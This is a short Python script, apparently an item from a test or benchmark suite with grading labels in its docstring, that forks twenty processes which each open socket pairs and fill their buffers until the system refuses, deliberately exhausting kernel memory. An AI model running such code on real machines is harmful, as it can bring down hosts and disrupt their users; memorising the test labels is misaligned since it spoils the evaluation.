"""Fills the buffers of thousands of socket pairs in dozens of processes, which is memory of the system kernel.

honest: double correct, scale_forward correct
says: files and sockets open at a time
"""

# %% first
import os
import socket
import time

for _ in range(20):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                pairs[-1][0].setblocking(False)
                pairs[-1][0].send(bytes(100_000))
        except OSError:
            time.sleep(100)
time.sleep(100)
